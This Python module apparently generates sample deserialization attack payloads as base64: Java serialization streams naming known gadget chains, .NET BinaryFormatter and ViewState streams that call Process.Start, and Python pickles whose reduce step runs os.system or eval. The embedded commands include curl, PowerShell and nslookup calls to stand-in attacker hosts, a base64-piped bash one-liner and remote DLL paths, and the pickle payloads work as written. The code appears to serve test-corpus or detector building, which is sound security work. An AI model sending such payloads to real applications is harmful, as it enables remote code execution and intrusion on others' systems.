"""Serialised objects: Java streams, .NET formatter and view state bytes, Python pickles, as base64.

Java Object Serialization Specification, chapter 6; [MS-NRBF] .NET Remoting:
Binary Format. The streams name the classes that gadget chains use and carry a
random command or host; they are written after the specifications and need not
run on any server.
"""

import base64
import struct

from heldout import words


def utf(text):
    raw = text.encode()
    return struct.pack(">H", len(raw)) + raw


def class_desc(rng, name, fields, flags=2):
    """TC_CLASSDESC; fields are (type code, name, signature or None)."""
    made = b"\x72" + utf(name) + struct.pack(">Q", rng.getrandbits(64)) + bytes([flags]) + struct.pack(">H", len(fields))
    for code, field, signature in fields:
        made += code.encode() + utf(field) + (b"\x74" + utf(signature) if signature else b"")
    return made + b"\x78\x70"


def command(rng):
    return rng.choice(["id", "whoami", "uname -a", "curl http://%s/" % words.evil(rng), "nslookup " + words.evil(rng), "calc.exe", "touch /tmp/" + words.ident(rng),
                       "ping -c 1 " + words.evil(rng), "bash -c {echo,%s}|{base64,-d}|bash" % base64.b64encode(b"id").decode()])


def java(body):
    return base64.b64encode(b"\xac\xed\x00\x05" + body).decode()


def java_dns(rng):
    """A HashMap with a java.net.URL for its key: hashing it resolves the host."""
    host = words.evil(rng)
    url = b"\x73" + class_desc(rng, "java.net.URL", [("I", "hashCode", None), ("I", "port", None), ("L", "authority", "Ljava/lang/String;"), ("L", "file", "Ljava/lang/String;"), ("L", "host", "Ljava/lang/String;"), ("L", "protocol", "Ljava/lang/String;"), ("L", "ref", "Ljava/lang/String;")], 3)
    url += b"\xff\xff\xff\xff\xff\xff\xff\xff" + b"\x74" + utf(host) + b"\x74" + utf("/" + words.ident(rng)) + b"\x74" + utf(host) + b"\x74" + utf("http") + b"\x70\x78"
    return java(b"\x73" + class_desc(rng, "java.util.HashMap", [("F", "loadFactor", None), ("I", "threshold", None)], 3) + struct.pack(">fI", 0.75, 12) + b"\x77\x08\x00\x00\x00\x10\x00\x00\x00\x01" + url + b"\x74" + utf("http://" + host) + b"\x78")


def java_chain(rng, outer, classes):
    made = b"\x73" + class_desc(rng, outer, [("I", "size", None), ("L", "comparator", "Ljava/util/Comparator;")], 3) + struct.pack(">I", 2)
    for name in classes:
        made += b"\x73" + class_desc(rng, name, [("L", rng.choice(["property", "iTransformers", "val", "map", "factory"]), "Ljava/lang/Object;")])
    made += b"\x74" + utf(command(rng)) + b"\x74" + utf(rng.choice(["exec", "getRuntime", "newTransformer", "outputProperties"])) + b"\x78"
    return java(made)


def java_cc(rng):
    return java_chain(rng, "java.util.PriorityQueue", ["org.apache.commons.collections4.comparators.TransformingComparator", "org.apache.commons.collections4.functors.InvokerTransformer", "java.lang.Runtime"])


def java_bean(rng):
    if rng.random() < 0.5:
        return java_chain(rng, "java.util.TreeMap", ["org.apache.commons.beanutils.BeanComparator", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"])
    return java_chain(rng, "javax.management.BadAttributeValueExpException", ["org.codehaus.groovy.runtime.ConvertedClosure", "org.codehaus.groovy.runtime.MethodClosure", "java.lang.ProcessBuilder"])


def java_rmi(rng):
    return java_chain(rng, "sun.rmi.server.UnicastRef", ["java.rmi.server.RemoteObjectInvocationHandler", "org.hibernate.engine.spi.TypedValue", "com.mchange.v2.c3p0.PoolBackedDataSource"] if rng.random() < 0.5 else ["java.rmi.server.ObjID", "bsh.XThis$Handler", "bsh.Interpreter"])


def net_string(text):
    raw = text.encode()
    size, made = len(raw), b""
    while True:
        made += bytes([size & 0x7F | (0x80 if size > 0x7F else 0)])
        size >>= 7
        if not size:
            return made + raw


def net(rng, classes, values, library):
    """A BinaryFormatter stream: header, library, classes with members, strings, end."""
    made = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00" + b"\x0c\x02\x00\x00\x00" + net_string(library)
    for number, (name, members) in enumerate(classes):
        made += b"\x05" + struct.pack("<I", number + 1) + net_string(name) + struct.pack("<I", len(members)) + b"".join(net_string(m) for m in members) + b"\x01" * len(members) + b"\x02\x00\x00\x00"
    for number, value in enumerate(values):
        made += b"\x06" + struct.pack("<I", number + 10) + net_string(value)
    return made + b"\x0b"


def net_command(rng):
    return "/c " + rng.choice(["whoami", "calc", "ping " + words.evil(rng), "dir C:\\", "echo %s > C:\\Windows\\Temp\\%s.txt" % (words.ident(rng), words.ident(rng)), "powershell -c iwr http://" + words.evil(rng)])


def net_formatter(rng):
    xaml = "<ResourceDictionary xmlns=\"http://schemas.microsoft.com/winfx/2006/xaml/presentation\"><ObjectDataProvider MethodName=\"Start\"/>%s</ResourceDictionary>" % net_command(rng)
    return base64.b64encode(net(rng, [("Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties", ["ForegroundBrush"])], [xaml], "Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")).decode()


def net_delegate(rng):
    classes = [("System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]", ["Count", "Comparer", "Version", "Items"]), ("System.DelegateSerializationHolder+DelegateEntry", ["type", "assembly", "target", "methodName", "delegateEntry"])]
    return base64.b64encode(net(rng, classes, [net_command(rng), "cmd", "System.Diagnostics.Process Start(System.String, System.String)"], "System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089")).decode()


def net_set(rng):
    """View state of the LosFormatter (0xff 0x01, token 0x32) that wraps a formatter stream."""
    inner = net(rng, [(rng.choice(["System.Data.DataSet", "System.Windows.Forms.AxHost+State", "System.Workflow.ComponentModel.Serialization.ActivitySurrogateSelector+ObjectSurrogate+ObjectSerializedRef"]), ["DataSet.RemotingFormat", "XmlSchema", "type", "memberDatas"])], ["System.Diagnostics.Process", "cmd.exe", net_command(rng)], "System.Workflow.ComponentModel, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")
    return los(inner)


def net_los(rng):
    return los(base64.b64decode(net_formatter(rng)))


def net_view(rng):
    return los(base64.b64decode(net_remote(rng)))


def los(inner):
    size, made = len(inner), b""
    while True:
        made += bytes([size & 0x7F | (0x80 if size > 0x7F else 0)])
        size >>= 7
        if not size:
            break
    return base64.b64encode(b"\xff\x01\x32" + made + inner).decode()


def java_set(rng):
    return java_chain(rng, "java.util.HashSet", ["org.apache.commons.collections.keyvalue.TiedMapEntry", "org.apache.commons.collections.map.LazyMap", rng.choice(["org.apache.commons.collections.functors.ChainedTransformer", "org.aspectj.weaver.tools.cache.SimpleCache$StoreableCachingMap"])])


def java_rome(rng):
    if rng.random() < 0.5:
        return java_chain(rng, "java.util.Hashtable", ["com.sun.syndication.feed.impl.ObjectBean", "com.sun.syndication.feed.impl.ToStringBean", "javax.xml.transform.Templates"])
    return java_chain(rng, "javax.swing.event.EventListenerList", ["javax.swing.undo.UndoManager", "com.fasterxml.jackson.databind.node.POJONode", "java.security.SignedObject"])


def net_claims(rng):
    """A principal whose claims are a formatter stream again, as base64 in a member."""
    name, member = rng.choice([("System.Security.Claims.ClaimsPrincipal", "m_serializedClaimsIdentities"), ("System.Security.Principal.WindowsPrincipal", "m_identity"), ("System.Security.Principal.GenericPrincipal", "m_serializedClaimsIdentities"),
                               ("System.Web.Security.RolePrincipal", "System.Security.ClaimsPrincipal.Identities")])
    inner = net(rng, [("System.Collections.Hashtable", ["LoadFactor", "Comparer", "KeyComparer", "Keys"])], ["System.Diagnostics.Process", "Start", net_command(rng)], "System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089")
    return base64.b64encode(net(rng, [(name, [member])], [base64.b64encode(inner).decode()], "mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089")).decode()


def net_remote(rng):
    """A reference to a remote object: reading it calls the host (ObjRef), or names a file to load."""
    if rng.random() < 0.5:
        return base64.b64encode(net(rng, [("System.Exception", ["ClassName", "Message", "InnerException"]), ("System.Runtime.Remoting.ObjRef", ["url"])], ["System.Exception", "http://%s/%s" % (words.evil(rng), words.ident(rng))], "System.Runtime.Remoting")).decode()
    return base64.b64encode(net(rng, [("System.Configuration.Install.AssemblyInstaller", ["_path"]), ("System.Windows.Data.ObjectDataProvider", ["_methodName", "_methodParameters"])], ["\\\\%s\\%s.dll" % (words.evil(rng), words.ident(rng)), "Start", net_command(rng)], "PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")).decode()


words.MAKERS.update({"javadns": java_dns, "javacc": java_cc, "javabean": java_bean, "javarmi": java_rmi, "netformatter": net_formatter, "netdelegate": net_delegate, "netset": net_set, "netlos": net_los,
                     "javaset": java_set, "javarome": java_rome, "netclaims": net_claims, "netremote": net_remote, "netview": net_view})


PICKLED = (("posix", "system"), ("nt", "system"), ("builtins", "eval"), ("subprocess", "getoutput"), ("os", "popen"))


def pickle_new(rng):
    """A pickle of protocol 4 whose REDUCE calls a function (pickletools: PROTO, FRAME, STACK_GLOBAL, TUPLE1)."""
    module, name = rng.choice(PICKLED)
    made = b"".join(b"\x8c" + bytes([len(part)]) + part.encode() + b"\x94" for part in (module, name)) + b"\x93\x94"
    argument = pickle_argument(rng, name).encode()
    made += b"\x8c" + bytes([len(argument)]) + argument + b"\x94\x85\x94R\x94."
    return base64.b64encode(b"\x80\x04\x95" + struct.pack("<Q", len(made)) + made).decode()


def pickle_old(rng):
    """The same call in protocol 2 (GLOBAL, BINUNICODE)."""
    module, name = rng.choice(PICKLED)
    argument = pickle_argument(rng, name).encode()
    return base64.b64encode(b"\x80\x02c%s\n%s\nq\x00X%s%sq\x01\x85q\x02Rq\x03." % (module.encode(), name.encode(), struct.pack("<I", len(argument)), argument)).decode()


def pickle_argument(rng, name):
    return ("__import__('os').system(%r)" if name == "eval" else "%s") % command(rng)


words.MAKERS.update({"pickle4": pickle_new, "pickle2": pickle_old})
